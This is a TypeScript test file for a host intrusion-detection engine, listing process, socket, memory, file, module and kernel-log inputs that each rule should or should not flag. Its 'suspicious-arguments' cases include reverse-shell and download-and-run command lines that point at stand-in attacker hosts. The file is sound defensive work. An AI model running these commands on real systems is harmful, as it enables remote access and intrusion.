import type { Row } from '../../src/plugin/cell.ts';
import { type Answers, process } from './drawn.ts';

/** A process that runs what is installed, as another user than root. */
const run = (name: string, cells: Row = {}): Row =>
  process(100, name, { uid: 1000, euid: 1000, state: 'S', exe: `/usr/bin/${name}`, ...cells });
const one = (name: string, cells: Row = {}): Answers => ({ pslist: [run(name, cells)] });
const words = (args: string): Answers => one('bash', { args });
const socket = (cells: Row, name = 'server', process: Row = {}): Answers => ({
  pslist: [run(name, process)],
  sockets: [
    {
      ...{ netns: 1, pid: 100, process: name, fd: 3, family: 'inet', type: 'stream', protocol: 'tcp' },
      ...{ localAddress: '10.0.0.1', localPort: 40000, remoteAddress: null, remotePort: null },
      ...{ device: null, state: 'UNCONN', inode: 7, uid: 1000, tid: null, hidden: false, ...cells },
    },
  ],
});
const listening = (cells: Row, name?: string): Answers => socket({ state: 'LISTEN', ...cells }, name);
const vsock = { family: 'vsock', protocol: null, localAddress: '*' } as const;
const connected = (cells: Row, name?: string, process?: Row): Answers =>
  socket({ state: 'ESTABLISHED', remoteAddress: '203.0.113.66', remotePort: 443, ...cells }, name, process);
const variable = (name: string, value: string, program = 'server'): Answers => ({
  pslist: [run(program)],
  env: [{ pid: 100, name, value }],
});
const mapped = (flags: string, path: string | null, name = 'server', cells: Row = {}): Answers => ({
  pslist: [run(name, cells)],
  maps: [
    {
      ...{ pid: 100, start: 0x7f00_0000_0000n, end: 0x7f00_0000_1000n, flags },
      ...{ offset: 0, device: '00:00', inode: 0, path },
    },
  ],
});
const open = (path: string, flags = 'O_RDWR', name = 'server', cells: Row = {}): Answers => ({
  pslist: [run(name)],
  files: [
    { pid: 100, fd: 3, path, type: 'regular', device: '08:01', inode: 9, flags, position: 0, ...cells },
  ],
});
const module = (cells: Row = {}): Answers => ({
  modules: [
    {
      ...{ name: 'evil', base: 0xffff_ffff_c000_0000n, size: 16384, references: 0, usedBy: null },
      ...{ state: 'Live', taints: null, buildId: 'c0ffee', ...cells },
    },
  ],
});
const said = (text: string, facility = 'kern'): Answers => ({
  dmesg: [{ time: 61.5, level: 'info', facility, caller: 'T1', text }],
});
const often = (times: number, text: string): Answers => ({
  dmesg: Array(times).fill(said(text)['dmesg']).flat(),
});
const together = (...answers: Answers[]): Answers => Object.assign({}, ...answers);

/** Answers at which a rule has one finding each, and answers at which it has to pass. */
interface Case {
  readonly rule: string;
  readonly fires: readonly Answers[];
  readonly quiet: readonly Answers[];
}

/** Rules over one snapshot. They are many, so this file is long. */
export const CASES: readonly Case[] = [
  {
    rule: 'memory-only-executable',
    fires: [one('3', { exe: '/memfd:payload (deleted)' }), one('x', { exe: '/memfd: (deleted)' })],
    quiet: [
      one('runc:[2:INIT]', { exe: '/memfd:runc_cloned:/proc/self/exe (deleted)' }),
      one('server'),
      one('kthreadd', { kernel: true, exe: null, args: null }),
    ],
  },
  {
    rule: 'hidden-process',
    fires: [
      one('x', { hidden: true, views: 'pids,children' }),
      one('kworker/0:1', { kernel: true, exe: null, args: null, hidden: true, views: 'list' }),
    ],
    quiet: [one('x', { hidden: false, views: 'list,pids,children' })],
  },
  {
    rule: 'scratch-executable',
    fires: [one('x', { exe: '/tmp/x' }), one('kw', { exe: '/dev/shm/.cache/kw (deleted)' })],
    quiet: [one('x', { exe: '/srv/tmp/x' }), one('x', { exe: '/tmpfiles' })],
  },
  {
    rule: 'deleted-executable',
    fires: [one('sshd', { exe: '/usr/sbin/sshd (deleted)' })],
    quiet: [one('sshd'), one('x', { exe: '/memfd:x (deleted)' })],
  },
  {
    rule: 'hidden-executable',
    fires: [one('x', { exe: '/var/lib/.fonts/x' })],
    quiet: [
      one('cargo', { exe: '/home/eve/.cargo/bin/cargo' }),
      one('x', { exe: '/dev/shm/.cache/x' }),
      one('x', { exe: '/opt/x.y/bin/.x' }),
    ],
  },
  {
    rule: 'kernel-thread-impostor',
    fires: [
      one('x', { args: '[kworker/0:3]' }),
      one('x', { args: '[kworker/0:9] 1000000' }),
      one('kworker/u8:1', { args: '' }),
      one('x', { kernelFlag: true }),
    ],
    quiet: [
      one('kworker/0:3', { kernel: true, kernelFlag: true, exe: null, args: null }),
      one('lxc-start', { args: '[lxc monitor] /var/lib/lxc web' }),
      one('kwriteconfig5'),
    ],
  },
  {
    rule: 'started-by-kernel',
    fires: [one('sh', { ppid: 2, args: '/bin/sh /tmp/escape' })],
    quiet: [
      one('modprobe', { ppid: 2 }),
      one('kworker/0:1', { ppid: 2, kernel: true }),
      one('sh', { ppid: 20 }),
    ],
  },
  {
    rule: 'impostor-daemon',
    fires: [one('sshd', { exe: '/home/eve/sshd' }), one('systemd', { exe: '/var/lib/systemd' })],
    quiet: [
      one('sshd', { exe: '/usr/sbin/sshd' }),
      one('systemd', { exe: '/usr/lib/systemd/systemd' }),
      one('crond', { exe: '/bin/busybox' }),
      one('cron', { exe: '/usr/sbin/cron (deleted)' }),
      one('sshd', { exe: null, state: 'Z' }),
    ],
  },
  {
    rule: 'suspicious-arguments',
    fires: [
      words('sh -c curl -s http://203.0.113.66/x | bash'),
      words('bash -c wget -qO- https://evil.example/i.sh |sudo /bin/sh'),
      words('bash -c exec 3<>/dev/tcp/203.0.113.66/4444'),
      words('sh -c echo aGk= | base64 -d | sh'),
      words('nc -e /bin/sh 203.0.113.66 4444'),
      words('/usr/bin/ncat -lvp 4444 -c /bin/bash'),
      words('socat TCP:203.0.113.66:4444 EXEC:/bin/sh,pty'),
      words('sh -c mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.66 4444 > /tmp/f'),
      words('python3 -c import socket,os;s=socket.socket();s.connect(("203.0.113.66",4444))'),
      words("perl -e use Socket;use IO::Socket;$c=new IO::Socket::INET(PeerAddr,'203.0.113.66:4444');"),
    ],
    quiet: [
      words('curl -fsS https://example.org/health'),
      words('bash -c wget -q https://example.org/a.tar.gz | sha256sum'),
      words('nc -lk 8125'),
      words('nc -z -w 3 db 5432'),
      words('base64 -d secret.b64'),
      words('python3 /srv/app/socket.socket.py'),
      words('tail -f /var/log/curl | grep bash'),
      words(''),
      one('kthreadd', { kernel: true, args: null }),
    ],
  },
  {
    rule: 'web-server-shell',
    fires: [
      one('bash', { uid: 33 }),
      one('curl', { uid: 48 }),
      { pslist: [process(50, 'php-fpm8.2', { uid: 998 }), run('sh', { ppid: 50, uid: 998 })] },
    ],
    quiet: [
      one('httpd', { uid: 33 }),
      one('bash'),
      { pslist: [process(50, 'apache2', { uid: 0 }), run('sh', { ppid: 50, uid: 0 })] },
    ],
  },
  {
    rule: 'miner',
    fires: [
      one('xmrig'),
      words('./a -o stratum+tcp://pool.example:3333 -u x'),
      words('./b --donate-level 1'),
    ],
    quiet: [one('server'), words('grep stratum /etc/ntp.conf')],
  },
  { rule: 'tunnel', fires: [one('chisel'), one('ngrok')], quiet: [one('sshd')] },
  { rule: 'offensive-tool', fires: [one('nmap'), one('pspy64')], quiet: [one('ping')] },
  {
    rule: 'debugger',
    fires: [one('server', { state: 't' }), one('strace')],
    quiet: [one('server', { state: 'T' }), one('straced')],
  },
  {
    rule: 'root-rights',
    fires: [one('bash', { euid: 0 })],
    quiet: [one('sudo', { euid: 0 }), one('bash', { uid: 0, euid: 0 }), one('bash', { uid: 0, euid: 33 })],
  },
  {
    rule: 'too-many-processes',
    fires: [{ pslist: Array.from({ length: 1001 }, (_, index) => process(100 + index, 'x', { uid: 1000 })) }],
    quiet: [
      {
        pslist: Array.from({ length: 1500 }, (_, index) =>
          process(100 + index, 'x', { uid: 1000 + (index % 2) }),
        ),
      },
      {
        pslist: Array.from({ length: 1001 }, (_, index) =>
          process(100 + index, 'kworker/0:0', { kernel: true }),
        ),
      },
    ],
  },
  {
    rule: 'shell-on-socket',
    fires: [
      connected({ fd: 0 }, 'bash'),
      connected({ fd: 1, family: 'inet6' }, 'python3.11'),
      connected({ fd: 0 }, 'renamed', { exe: '/bin/dash' }),
      connected({ ...vsock, fd: 0, remoteAddress: '2', remotePort: 1024 }, 'bash'),
      connected({ fd: 0, protocol: 'sctp', type: 'seqpacket' }, 'bash'),
      connected({ fd: 0, family: 'tipc', protocol: null, remoteAddress: null, remotePort: null }, 'bash'),
    ],
    quiet: [
      connected({ fd: 3 }, 'bash'),
      connected({ fd: 0 }, 'sshd', { exe: '/usr/sbin/sshd' }),
      connected({ fd: 0, family: 'unix' }, 'bash'),
    ],
  },
  {
    rule: 'unexpected-listener',
    fires: [
      listening({ localPort: 31337 }),
      listening({ family: 'inet6', localAddress: '::', localPort: 7003 }),
      listening({ family: 'inet6', localAddress: '::ffff:10.0.0.1', localPort: 7003 }),
      listening({ localPort: 443, protocol: 'sctp', type: 'seqpacket' }),
    ],
    quiet: [
      listening({ localPort: 443 }),
      listening({ localAddress: '127.0.0.53', localPort: 7003 }),
      listening({ family: 'inet6', localAddress: '::1', localPort: 7003 }),
      listening({ family: 'unix', localAddress: '/run/x.sock', localPort: null }),
      connected({ localPort: 31337 }),
    ],
  },
  {
    rule: 'unusual-listener',
    fires: [
      listening({ ...vsock, localPort: 4402 }),
      listening({ ...vsock, localPort: 22, pid: null, process: null, fd: null }),
      listening({ family: 'tipc', protocol: null, localAddress: null, localPort: null }),
      listening({ family: 'bluetooth', protocol: 'rfcomm', localAddress: null, localPort: null }),
    ],
    quiet: [
      listening({ ...vsock, localPort: 22 }, 'systemd'),
      socket({ ...vsock, localPort: 4402 }),
      connected({ ...vsock, localPort: 4402, remoteAddress: '2' }),
      listening({ localPort: 4402 }),
      listening({ family: 'unix', localAddress: '/run/x.sock', localPort: null }),
    ],
  },
  {
    rule: 'hidden-socket',
    fires: [
      socket({ hidden: true }),
      listening({ hidden: true, pid: null, process: null, fd: null }),
      socket({ hidden: true, family: 'unix', localAddress: null, localPort: null }),
    ],
    quiet: [socket({ hidden: false }), socket({ hidden: null })],
  },
  {
    rule: 'listener-without-process',
    fires: [
      listening({ pid: null, process: null, fd: null, localPort: 8080 }),
      // A service of the kernel listens by TCP, and not on the same port in another way.
      listening({ pid: null, process: null, fd: null, localPort: 2049, protocol: 'sctp' }),
      listening({ ...vsock, pid: null, process: null, fd: null, localPort: 2049 }),
    ],
    quiet: [
      listening({ localPort: 8080 }),
      listening({ pid: null, process: null, fd: null, family: 'unix', localPort: null, localAddress: null }),
      listening({ pid: null, process: null, fd: null, localPort: 2049 }),
      connected({ pid: null, process: null, fd: null }),
    ],
  },
  {
    rule: 'notorious-port',
    fires: [
      connected({ remotePort: 4444 }),
      connected({ pid: null, process: null, fd: null, remotePort: 4444 }),
      connected({ remotePort: 4444, protocol: 'sctp', type: 'seqpacket' }),
      connected({ remotePort: 4444, family: 'inet6', remoteAddress: '::ffff:203.0.113.66' }),
    ],
    quiet: [
      connected({ remotePort: 443 }),
      connected({ remotePort: 4444, remoteAddress: '127.0.0.1' }),
      connected({ remotePort: 4444, localPort: 443 }),
      connected({ remotePort: 4444, protocol: 'udp' }),
      socket({ state: 'SYN-SENT', remoteAddress: '203.0.113.66', remotePort: 4444 }),
    ],
  },
  {
    rule: 'packet-socket',
    fires: [
      socket({ family: 'packet', type: 'raw', protocol: 'all', localAddress: 'eth0', localPort: null }),
      socket({ family: 'packet', type: 'dgram', protocol: '0x88b5', localAddress: null, localPort: null }),
      socket({ family: 'packet', protocol: 'all', pid: null, process: null, fd: null }),
    ],
    quiet: [
      socket({ family: 'packet', localAddress: 'eth0' }, 'dhclient'),
      // It receives nothing: packet(7).
      socket({ family: 'packet', type: 'raw', protocol: null, localAddress: null, localPort: null }),
      socket({}),
    ],
  },
  {
    rule: 'raw-socket',
    fires: [
      socket({ type: 'raw', protocol: 'icmp' }),
      socket({ family: 'packet', type: 'raw', protocol: null, localAddress: null, localPort: null }),
      socket({ type: 'raw', protocol: 'icmp', pid: null, process: null, fd: null }),
    ],
    quiet: [
      socket({ type: 'raw', protocol: 'icmp' }, 'ping'),
      socket({ family: 'packet', type: 'raw', protocol: 'all' }),
      socket({ family: 'packet', type: 'raw', protocol: null }, 'dhclient'),
    ],
  },
  {
    rule: 'container-engine-client',
    fires: [
      socket({ family: 'unix', remoteAddress: '/run/docker.sock' }, 'python3'),
      socket({ family: 'unix', remoteAddress: '/run/docker.sock', pid: null, process: null, fd: null }),
    ],
    quiet: [
      socket({ family: 'unix', remoteAddress: '/run/docker.sock' }, 'docker'),
      socket({ family: 'unix', localAddress: '/run/docker.sock' }, 'dockerd'),
    ],
  },
  {
    rule: 'preloaded-library',
    fires: [variable('LD_PRELOAD', '/usr/lib/libkeyutils.so.2'), variable('LD_AUDIT', '/lib/audit.so')],
    quiet: [
      variable('LD_PRELOAD', ''),
      variable('LD_PRELOAD', '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'),
      variable('PRELOAD', '/tmp/x.so'),
    ],
  },
  {
    rule: 'scratch-search-path',
    fires: [
      variable('LD_LIBRARY_PATH', '/opt/lib:/tmp/lib'),
      variable('PYTHONPATH', '/dev/shm/'),
      variable('NODE_OPTIONS', '--require=/tmp/hook.js'),
      variable('NODE_OPTIONS', '--require /tmp/hook.js'),
    ],
    quiet: [variable('LD_LIBRARY_PATH', '/opt/oracle/lib'), variable('PATH', '/tmp/bin')],
  },
  {
    rule: 'secret-in-environment',
    fires: [
      variable('DB_PASSWORD', 'correct horse'),
      variable('AWS_SECRET_ACCESS_KEY', 'wJalrXUtnFEMI'),
      variable('github_token', 'ghp_abcdef'),
    ],
    quiet: [
      variable('DB_PASSWORD_FILE', 'run/secret'),
      variable('CREDENTIALS_DIRECTORY', '/run/credentials/x.service'),
      variable('AWS_ACCESS_KEY_ID', 'AKIAIOSFODNN7'),
      variable('MAX_TOKENS', '100000'),
      variable('PASSWORD', ''),
      variable('HOME', '/home/token'),
    ],
  },
  {
    rule: 'scratch-library',
    fires: [mapped('r-xp', '/tmp/gone/libhidden.so (deleted)')],
    quiet: [
      mapped('r--p', '/tmp/data'),
      mapped('r-xp', '/usr/lib/libc.so.6'),
      mapped('r-xp', '/tmp/x', 'x', { exe: '/tmp/x' }),
    ],
  },
  {
    rule: 'memory-only-library',
    fires: [mapped('r-xp', '/memfd:x (deleted)')],
    quiet: [
      mapped('rw-s', '/memfd:x (deleted)'),
      mapped('r-xp', '/memfd:x (deleted)', 'x', { exe: '/memfd:x (deleted)' }),
      mapped('r-xp', '/memfd:doublemapper (deleted)'),
      mapped('r-xp', '/memfd:x (deleted)', 'java'),
    ],
  },
  {
    rule: 'deleted-library',
    fires: [mapped('r-xp', '/usr/lib/libssl.so.3 (deleted)')],
    quiet: [
      mapped('r-xp', '/usr/lib/libssl.so.3'),
      mapped('rw-p', '/var/lib/x (deleted)'),
      mapped('r-xp', '/usr/sbin/sshd (deleted)', 'sshd', { exe: '/usr/sbin/sshd (deleted)' }),
    ],
  },
  {
    rule: 'writable-code',
    fires: [mapped('rwxp', null), mapped('rwxp', '/usr/lib/libc.so.6'), mapped('-wxp', null)],
    quiet: [
      mapped('r-xp', null),
      mapped('rw-p', null),
      mapped('rwxp', '[stack]'),
      mapped('rwxp', null, 'java'),
      mapped('rwxp', null, 'main', { exe: '/opt/jdk/bin/java' }),
    ],
  },
  {
    rule: 'anonymous-code',
    fires: [mapped('r-xp', null), mapped('--xp', null)],
    quiet: [
      mapped('rwxp', null),
      mapped('r-xp', '[vdso]'),
      mapped('r-xp', '/usr/bin/server'),
      mapped('r-xp', null, 'node'),
    ],
  },
  {
    rule: 'executable-stack',
    fires: [mapped('rwxp', '[stack]')],
    quiet: [mapped('rw-p', '[stack]'), mapped('rwxp', null)],
  },
  {
    rule: 'deleted-script',
    fires: [
      open('/tmp/stage2.sh (deleted)', 'O_RDONLY', 'bash'),
      { ...open('/srv/x.py (deleted)', 'O_RDONLY'), pslist: [run('app', { exe: '/usr/bin/python3.11' })] },
    ],
    quiet: [
      open('/tmp/stage2.sh', 'O_RDONLY', 'bash'),
      open('/tmp/tmpf1a2 (deleted)', 'O_RDWR', 'bash'),
      open('/tmp/stage2.sh (deleted)', 'O_RDONLY', 'tail'),
    ],
  },
  {
    rule: 'large-deleted-file',
    fires: [open('/var/tmp/x (deleted)', 'O_RDWR', 'x', { position: 300_000_000 })],
    quiet: [
      open('/var/tmp/x (deleted)', 'O_RDWR', 'x', { position: 4096 }),
      open('/var/tmp/x', 'O_RDWR', 'x', { position: 300_000_000 }),
      open('/memfd:x (deleted)', 'O_RDWR', 'x', { position: 300_000_000 }),
    ],
  },
  {
    rule: 'hidden-file-written',
    fires: [open('/var/lib/.fonts/messages.enc', 'O_WRONLY|O_LARGEFILE')],
    quiet: [
      open('/var/lib/.fonts/messages.enc', 'O_RDONLY'),
      open('/home/eve/.config/x', 'O_RDWR'),
      open('/var/lib/x/.lock', 'O_RDWR'),
      open('/opt/app/.npm/_logs/x', 'O_RDWR'),
    ],
  },
  {
    rule: 'access-file-written',
    fires: [
      open('/root/.ssh/authorized_keys', 'O_WRONLY|O_APPEND'),
      open('/etc/ld.so.preload', 'O_RDWR'),
      open('/etc/cron.d/x', 'O_WRONLY'),
      open('/var/spool/cron/crontabs/root', 'O_WRONLY'),
    ],
    quiet: [
      open('/etc/passwd', 'O_RDONLY|O_CLOEXEC'),
      open('/etc/hosts', 'O_RDWR'),
      open('/var/log/cron', 'O_WRONLY'),
    ],
  },
  {
    rule: 'disk-written',
    fires: [open('/dev/vda', 'O_RDWR', 'dd'), open('/dev/nvme0n1p1', 'O_WRONLY|O_DIRECT', 'x')],
    quiet: [
      open('/dev/vda', 'O_RDONLY', 'dd'),
      open('/dev/sda1', 'O_RDWR', 'e2fsck'),
      open('/dev/mapper/control', 'O_RDWR', 'x'),
      open('/dev/null', 'O_RDWR', 'x'),
    ],
  },
  {
    rule: 'kernel-memory-open',
    fires: [open('/dev/mem', 'O_RDONLY'), open('/proc/kcore', 'O_RDONLY')],
    quiet: [open('/dev/mem', 'O_RDONLY', 'dmidecode'), open('/dev/memory', 'O_RDONLY')],
  },
  {
    rule: 'unsigned-module',
    fires: [module({ taints: 'E' }), module({ taints: 'OE' })],
    quiet: [module(), module({ taints: 'P' })],
  },
  {
    rule: 'out-of-tree-module',
    fires: [module({ taints: 'O' }), module({ taints: 'OE' })],
    quiet: [module(), module({ taints: 'E' })],
  },
  {
    rule: 'forced-module',
    fires: [module({ taints: 'F' }), module({ taints: 'R' })],
    quiet: [module({ taints: 'O' })],
  },
  { rule: 'module-in-between', fires: [module({ state: 'Going' })], quiet: [module()] },
  {
    rule: 'unlisted-module',
    fires: [module({ hidden: true, views: 'tree' })],
    quiet: [module({ hidden: false, views: 'list,tree,sysfs' })],
  },
  {
    rule: 'hidden-module',
    fires: [
      said('evil: loading out-of-tree module taints kernel.'),
      together(
        module({ name: 'ev' }),
        said('evil: module verification failed: signature and/or required key missing - tainting kernel'),
      ),
    ],
    quiet: [
      together(module(), said('evil: loading out-of-tree module taints kernel.')),
      said('evil: loading out-of-tree module taints kernel.', 'user'),
      said('loop: module loaded'),
    ],
  },
  {
    rule: 'promiscuous-card',
    fires: [
      said('device eth0 entered promiscuous mode'),
      said('virtio_net virtio0 eth0: entered promiscuous mode'),
    ],
    quiet: [
      said('device veth12ab entered promiscuous mode'),
      said('veth12ab: entered promiscuous mode'),
      said('device eth0 left promiscuous mode'),
      said('device eth0 entered promiscuous mode', 'user'),
    ],
  },
  {
    rule: 'kernel-fault',
    fires: [
      said('BUG: kernel NULL pointer dereference, address: 0000000000000000'),
      said('Oops: 0000 [#1] PREEMPT SMP PTI'),
      said('Unable to handle kernel paging request at virtual address ffff000000000000'),
    ],
    quiet: [
      said('watchdog: BUG: soft lockup - CPU#0 stuck for 22s!'),
      said('BUG: workqueue lockup - pool cpus=0'),
      said('PCI: Using host bridge windows from ACPI; if necessary, use "pci=nocrs" and report a bug'),
      said('BUG: kernel NULL pointer dereference', 'user'),
    ],
  },
  {
    rule: 'many-crashes',
    fires: [often(10, 'nginx[12]: segfault at 0 ip 1 sp 2 error 4 in nginx')],
    quiet: [
      often(9, 'nginx[12]: segfault at 0 ip 1 sp 2 error 4 in nginx'),
      often(20, 'EXT4-fs (vda): mounted filesystem'),
    ],
  },
  {
    rule: 'out-of-memory',
    fires: [
      said('Out of memory: Killed process 812 (java) total-vm:1kB'),
      said('Memory cgroup out of memory: Killed process 3 (x)'),
    ],
    quiet: [said('Memory: 472244K/524140K available')],
  },
];

/** The same, compared with the answers before. */
interface ChangeCase extends Case {
  readonly before: Answers;
}

/** Rules over what has changed. */
export const CHANGES: readonly ChangeCase[] = [
  {
    rule: 'guardian-gone',
    before: { pslist: [run('auditd'), process(101, 'sh')] },
    fires: [{ pslist: [process(101, 'sh')] }],
    quiet: [{ pslist: [run('auditd')] }, { pslist: [process(200, 'auditd'), process(101, 'sh')] }],
  },
  {
    rule: 'new-listener',
    before: listening({ localPort: 443 }),
    fires: [
      listening({ localPort: 8080, inode: 8 }),
      listening({ ...vsock, localPort: 4402, inode: 8 }),
      listening({ family: 'tipc', protocol: null, localAddress: null, localPort: null, inode: 8 }),
    ],
    quiet: [
      listening({ localPort: 443 }),
      listening({ localAddress: '127.0.0.1', localPort: 8080 }),
      connected({}),
    ],
  },
  {
    rule: 'became-root',
    before: one('server'),
    fires: [one('server', { uid: 0, euid: 0 }), one('server', { euid: 0 })],
    quiet: [one('server'), one('server', { uid: 33, euid: 33 })],
  },
  {
    rule: 'module-loaded',
    before: module(),
    fires: [
      { modules: [...(module()['modules'] as Row[]), ...(module({ name: 'dm_mod' })['modules'] as Row[])] },
    ],
    quiet: [module({ references: 3 })],
  },
  { rule: 'module-gone', before: module(), fires: [{ modules: [] }], quiet: [module()] },
];
